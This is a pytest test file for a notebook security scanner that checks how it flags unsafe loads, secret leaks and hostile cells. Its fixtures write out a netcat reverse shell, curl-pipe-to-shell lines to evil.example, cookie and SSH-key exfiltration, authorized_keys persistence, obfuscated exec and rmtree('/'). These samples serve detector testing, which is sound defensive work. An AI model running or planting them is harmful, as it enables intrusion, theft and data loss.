"""What flows where: secrets, somebody else's text, files that run, in the many ways they are written."""

import pytest

from mlsec_nb.core import Confidence, Severity


def rules(findings, least=Severity.LOW):
    return {finding.rule.id for finding in findings if finding.severity.at_least(least)}


def only(findings, rule):
    (finding,) = [finding for finding in findings if finding.rule.id == rule]
    return finding


@pytest.mark.parametrize(
    ("rule", "cells", "severity"),
    [
        (
            "LOAD-TORCH",
            (
                "from huggingface_hub import hf_hub_download\np = hf_hub_download('a/b', 'm.bin')",
                "import torch\ntorch.load(p)",
            ),
            "critical",
        ),
        (
            "LOAD-PICKLE",
            (
                "from google.colab import files\nu = files.upload()",
                "import pickle, io\nfor n in u:\n    pickle.load(io.BytesIO(u[n]))",
            ),
            "critical",
        ),
        (
            "LOAD-PICKLE",
            (
                "import boto3, pickle\ns3 = boto3.client('s3')\no = s3.get_object(Bucket='b', Key='k')\npickle.loads(o['Body'].read())",
            ),
            "high",
        ),
        ("LOAD-PANDAS", ("import pandas as pd\npd.read_pickle('https://x.example/y.pkl')",), "critical"),
        (
            "LOAD-KERAS",
            ("import tensorflow as tf\ntf.keras.models.load_model(tf.keras.utils.get_file('m.h5', 'http://x/m.h5'))",),
            "high",
        ),
        (
            "CODE-EVAL",
            (
                "import openai\nr = openai.OpenAI().chat.completions.create(messages=m)",
                "exec(r.choices[0].message.content)",
            ),
            "high",
        ),
        ("CODE-EVAL", ("df['x'] = df['y'].apply(eval)",), "medium"),
        (
            "CODE-SQL-BUILT",
            ("import sqlite3\nc = sqlite3.connect('x')\nn = input()\nc.execute('SELECT * FROM u WHERE id = ' + n)",),
            "high",
        ),
        (
            "CODE-SHELL-TRUE",
            (
                "from flask import Flask, request\nimport subprocess\napp = Flask('x')\n@app.route('/')\ndef f():\n    return subprocess.run(request.args['c'], shell=True)",
            ),
            "critical",
        ),
        (
            "CODE-SHELL-TRUE",
            (
                "from fastapi import FastAPI\nimport subprocess\napp = FastAPI()\n@app.get('/{name}')\ndef f(name):\n    subprocess.run('ls ' + name, shell=True)",
            ),
            "critical",
        ),
        (
            "SHELL-CURL-SH",
            ("import urllib.request as u\nu.urlretrieve('https://x.example/i.sh', 'i.sh')", "!bash i.sh"),
            "medium",
        ),
        ("SHELL-CURL-SH", ("!curl https://x.example/z.sh -o z.sh; chmod +x z.sh; ./z.sh",), "medium"),
        ("SHELL-INTERPOLATION", ("import requests\nname = requests.get(u).text\n!ls {name}",), "medium"),
        ("CODE-SECRET-SHOWN", ("import os\nos.environ['OPENAI_API_KEY']",), "high"),
        ("CODE-SECRET-SHOWN", ("from getpass import getpass\ntoken = getpass()", "token"), "high"),
        ("CODE-SECRET-SHOWN", ("%env MY_KEY=1\nimport os\nkey = os.getenv('HF_TOKEN')", "!echo $key"), "high"),
        (
            "CODE-EXFILTRATION",
            (
                "import requests\nfrom pathlib import Path\nrequests.post(u, data=Path('~/.ssh/id_rsa').expanduser().read_text())",
            ),
            "critical",
        ),
        (
            "CODE-PERSISTENCE",
            ("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').open('a').write(k)",),
            "high",
        ),
        ("CODE-PERSISTENCE", ("%%writefile ~/.ipython/profile_default/startup/00-x.py\nimport os",), "high"),
        ("CODE-REVERSE-SHELL", ("!mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",), "critical"),
        ("CODE-HIDDEN-PAYLOAD", ("exec(''.join(map(chr, [112, 114, 105, 110, 116])))",), "high"),
        (
            "CODE-HIDDEN-PAYLOAD",
            ("__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))",),
            "high",
        ),
        ("CODE-PICKLE-PROTOCOL", ("app.conf.accept_content = ['pickle']",), "medium"),
        (
            "CONTENT-SCRIPT-HOSTILE",
            (
                "from IPython.display import HTML\nHTML('<script>fetch(\"https://e.example/?\" + document.cookie)</script>')",
            ),
            "high",
        ),
        ("SHELL-SECRET", ("!PGPASSWORD=Sup3rS3cret psql -h x",), "medium"),
        ("SHELL-SECRET", ("%sql postgresql://user:Sup3rS3cret@host/db",), "medium"),
        ("SHELL-DESTROY", ("import shutil\nshutil.rmtree('/')",), "high"),
    ],
)
def test_a_flow_ends_where_it_hurts(audit, rule, cells, severity):
    assert only(audit(*cells), rule).severity is Severity(severity)


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("CODE-SECRET-SHOWN", "import os\nprint('set' if os.getenv('HF_TOKEN') else 'unset')"),
        ("CODE-SECRET-SHOWN", "import os\nkey = os.getenv('HF_TOKEN')\nr = Client(api_key=key).ask(x)\nprint(r.text)"),
        ("CODE-SECRET-SHOWN", "import os\nprint(os.environ['API_KEY'][:4])"),
        ("CODE-SECRET-SHOWN", "from getpass import getpass\ntoken = getpass()\ntoken;"),
        ("CODE-SECRET-SHOWN", "api_key = '<your key>'\nprint(api_key)"),
        ("CODE-SQL-BUILT", "cur.execute('SELECT * FROM t WHERE x = %s', (v,))"),
        ("CODE-EVAL", "model.eval()\nloss.eval(session=s)"),
        ("SHELL-CURL-SH", "!curl https://x.example/a.csv > a.csv\n!python train.py"),
        ("SHELL-INTERPOLATION", "import huggingface_hub\np = huggingface_hub.hf_hub_download('a/b', 'c')\n!ls {p}"),
        ("LOAD-TORCH", "!pip install torch==2.7.0\nimport torch\ntorch.load(p)"),
        ("CODE-SUBPROCESS-INPUT", "import subprocess\nsubprocess.run(['ls', input()])"),
    ],
)
def test_what_does_not_hurt_is_left_alone(audit, rule, text):
    assert rule not in rules(audit(text))


def test_the_version_of_torch_that_is_pinned_decides(audit):
    old = audit("!pip install torch==2.1.0\nimport torch\ntorch.load(p)")
    assert "LOAD-TORCH" in rules(old, Severity.MEDIUM)


def test_no_secret_of_the_code_is_in_what_is_said(audit):
    secret = "Xk29" + "dkfj3Qp81"
    for text in (
        f"import requests\nrequests.get(u, auth=('bob', '{secret}'), verify=False)",
        f"import requests\nrequests.get('https://bob:{secret}@x.example', verify=False)",
        f"password = '{secret}'\nprint(f'pw {{password}}')",
        f"!curl -k -u bob:{secret} https://x.example",
        f"!docker run --privileged -e KEY={secret} x",
        f"%%html\n<script>fetch('https://x.example/?t={secret}' + document.cookie)</script>",
        f"!mysql -p{secret} -e 'x' && curl -k https://x.example",
        f"import os\nos.system('curl -k -u bob:{secret} https://x.example')",
    ):
        found = audit(text)
        assert found
        assert all(secret not in repr(finding) for finding in found), text


def test_loops_branches_and_recursion_end(audit):
    text = """
import pickle
def f(x):
    return g(x)
def g(x):
    return f(x) or pickle.load(x)
while True:
    try:
        f(open(p))
    except (OSError, ValueError) as error:
        continue
    finally:
        del p
match command:
    case ["load", name]:
        h = pickle.load
    case {"x": name, **rest} if name:
        h = None
h(name)
class A(B):
    x: int = 1
    def m(self, *args, k=1, **kw):
        self.y = args
        self.y += (1,)
        return [*self.y, *(z for z in args if z)], {**kw, 'a': 1}
a, *b = A().m(1, 2, c=3)
global_name = lambda *, q=1: q
with open(p) as f1, open(q) as f2:
    async def later():
        async for row in rows:
            yield await row
        async with lock:
            return not -1 < 2
assert isinstance(a, dict), f"{a!r:>{10}}"
"""
    found = [finding for finding in audit(text) if finding.rule.id == "LOAD-PICKLE"]
    assert {finding.location.line for finding in found} >= {6}


def test_a_class_of_the_notebook_keeps_what_it_is_given(audit):
    text = "import torch\nclass Net(torch.nn.Module):\n    def __init__(self, path):\n        super().__init__()\n        self.path = path\n    def load(self):\n        return torch.load(self.path, weights_only=False)\nNet('https://x.example/m.pt').load()"
    assert only(audit(text), "LOAD-TORCH").severity is Severity.CRITICAL


def test_confidence_says_what_was_assumed(audit):
    finding = only(
        audit("import numpy as np\ndef f(p, **kw):\n    return np.load(p, allow_pickle=True, **kw)"), "LOAD-NUMPY"
    )
    assert finding.confidence is Confidence.HIGH
    assert only(audit("import torch\ntorch.load(p, **options)"), "LOAD-TORCH").confidence is Confidence.LOW


def test_code_too_long_to_follow_is_a_gap(gaps, monkeypatch):
    from mlsec_nb.scanners.code import expressions, state

    monkeypatch.setattr(state, "MAX_NODES", 50)
    monkeypatch.setattr(expressions, "MAX_NODES", 50)
    assert {gap.code for gap in gaps("import pickle\n" + "x = f(1)\n" * 100 + "pickle.load(f)")} == {"too-big"}


def test_a_missing_shell_grammar_is_a_gap(gaps, monkeypatch):
    from mlsec_nb.core import CannotScan
    from mlsec_nb.scanners.code import shell

    def missing():
        raise CannotScan("shell commands were not read: no module", "tool-missing")

    monkeypatch.setattr(shell, "_parser", missing)
    (gap,) = gaps("!curl https://x.example | sh")
    assert gap.code == "tool-missing"


def test_a_prompt_that_asks_for_a_name_gives_no_secret(audit):
    asks = "from getpass import getpass\nx = getpass('{}')\nprint(x)"
    assert "CODE-SECRET-SHOWN" not in {item.rule.id for item in audit(asks.format("Hub username or organization?"))}
    assert "CODE-SECRET-SHOWN" in {item.rule.id for item in audit(asks.format("Hub token?"))}
    assert "CODE-SECRET-SHOWN" in {item.rule.id for item in audit(asks.format("Password of this account:"))}


def test_a_model_in_a_folder_that_was_copied_here_needs_no_revision(audit):
    found = audit("import s3fs\nfs = s3fs.S3FileSystem()\nfs.get('s3://b/m', 'model', recursive=True)",
                  "from transformers import AutoModel\nAutoModel.from_pretrained('model')")  # fmt: skip
    assert not [item for item in found if item.severity.at_least(Severity.LOW)]  # Bandit's word for it is information


def test_a_page_and_a_command_may_be_written_in_another_cell(audit):
    page = "page = '''<img src=x onerror=\"fetch('https://evil.example/?c=' + document.cookie)\">'''"
    found = audit(page, "from IPython.display import HTML", "HTML(page)")
    assert any(finding.rule.id.startswith("CONTENT-") for finding in found)
    found = audit("line = 'curl http://evil.example/x | sh'", "import subprocess", "subprocess.run(line, shell=True)")
    assert "SHELL-CURL-SH" in {finding.rule.id for finding in found}


def test_a_command_that_is_nothing_but_a_variable_is_read(audit):
    found = audit("import requests", "line = 'curl http://evil.example/x | sh'", "!{line}", "!echo {line} > x")
    assert "SHELL-CURL-SH" in {finding.rule.id for finding in found}


def test_a_secret_that_goes_into_a_file_or_a_pipe_is_not_shown(audit):
    for line in ('!echo "{api_key}" > key.txt', "!echo {api_key} | docker login --password-stdin"):
        found = {finding.rule.id for finding in audit("import os", "api_key = os.environ['API_KEY']", line)}
        assert "CODE-SECRET-SHOWN" not in found
        assert "SHELL-SECRET" in found
    found = {finding.rule.id for finding in audit("import os", "api_key = os.environ['API_KEY']", "!echo {api_key}")}
    assert "CODE-SECRET-SHOWN" in found


def test_a_hidden_prompt_for_an_address_asks_for_no_secret(audit):
    asked = "import getpass", "url = getpass.getpass('Enter your Elasticsearch URL: ')", "print(f'at {url}')"
    assert not audit(*asked)
    asked = "import getpass", "key = getpass.getpass('Key for this URL: ')", "print(f'with {key}')"
    assert "CODE-SECRET-SHOWN" in {finding.rule.id for finding in audit(*asked)}
